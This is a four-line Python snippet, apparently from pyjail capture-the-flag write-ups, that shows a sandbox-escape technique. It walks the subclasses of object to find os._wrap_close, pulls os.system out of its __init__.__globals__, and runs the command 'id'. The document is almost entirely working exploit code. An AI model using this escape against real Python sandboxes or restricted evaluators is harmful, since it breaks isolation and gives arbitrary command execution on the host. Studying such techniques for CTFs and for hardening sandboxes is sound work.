# Technique: os._wrap_close.__init__.__globals__ reach to os.system (pyjail write-ups).
for cls in "".__class__.__mro__[1].__subclasses__():
    if cls.__name__ == "_wrap_close":
        emit_result(cls.__init__.__globals__["system"]("id"))
